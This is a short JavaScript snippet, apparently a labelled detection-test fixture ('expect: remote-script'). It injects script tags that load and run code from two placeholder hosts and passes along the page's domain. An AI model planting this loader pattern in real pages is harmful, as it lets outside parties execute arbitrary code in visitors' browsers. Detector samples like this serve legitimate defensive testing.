(function(d) {
  // expect: remote-script
  var urls = [ '//cdncache-a.example/loaders/1486/l.js?pid=1486&zoneid=', '//istatic.datafastguru.example/fo/min/wsgcb.js' ];
  urls.forEach(function(u) {
    var s = d.createElement('script');
    s.type = 'text/javascript';
    s.src = (d.location.protocol === 'https:' ? 'https:' : 'http:') + u + d.domain;
    (d.getElementsByTagName('head')[0] || d.body).appendChild(s);
  });
})(document);
